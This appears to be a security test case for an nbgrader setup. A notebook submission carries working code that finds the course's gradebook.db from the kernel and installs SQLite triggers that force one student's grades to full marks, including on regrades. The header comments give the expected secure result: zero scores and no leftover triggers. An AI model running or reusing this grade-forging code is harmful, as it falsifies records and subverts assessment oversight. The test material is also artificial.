# Grade forgery through the gradebook: from the notebook's own kernel, walk up from the working
# folder to the course root, open gradebook.db with sqlite3 and install triggers that set every
# grade of this student's notebook to the cell's maximum whenever nbgrader inserts or updates it.
# Every answer is blank. Triggers persist, so they also apply to regrades.
# A secure grader: the notebook cannot reach the gradebook; every exercise zero.
# Check also: sqlite3 gradebook.db ".schema" shows no rt_ trigger after the run.
# expect single_layer_sum: zero
# expect single_layer_mm: zero
# expect multilayer: zero
# expect numpy_bridge: zero
# %% single_layer_sum
import os as _os, sqlite3 as _sqlite3
from pathlib import Path as _Path
_here = _Path(_os.getcwd()).resolve()
_me = "30_gradebook_trigger"
for _d in [_here, *_here.parents]:
    if (_d / "gradebook.db").exists():
        try:
            _db = _sqlite3.connect(str(_d / "gradebook.db"), timeout=10)
            _mine = ("NEW.notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN "
                     "submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = "
                     f"'{_me}')")
            _max = "(SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)"
            _db.executescript(f"""
            CREATE TRIGGER IF NOT EXISTS rt_ins AFTER INSERT ON grade WHEN {_mine}
            BEGIN UPDATE grade SET auto_score = {_max}, needs_manual_grade = 0 WHERE id = NEW.id; END;
            CREATE TRIGGER IF NOT EXISTS rt_upd AFTER UPDATE OF auto_score ON grade
            WHEN {_mine} AND NEW.auto_score IS NOT {_max}
            BEGIN UPDATE grade SET auto_score = {_max}, needs_manual_grade = 0 WHERE id = NEW.id; END;
            """)
            _db.commit()
            print("triggers installed in", _d / "gradebook.db")
        except Exception as _err:
            print("gradebook:", type(_err).__name__, _err)
        break
else:
    print("no gradebook reachable from", _here)
raise NotImplementedError()
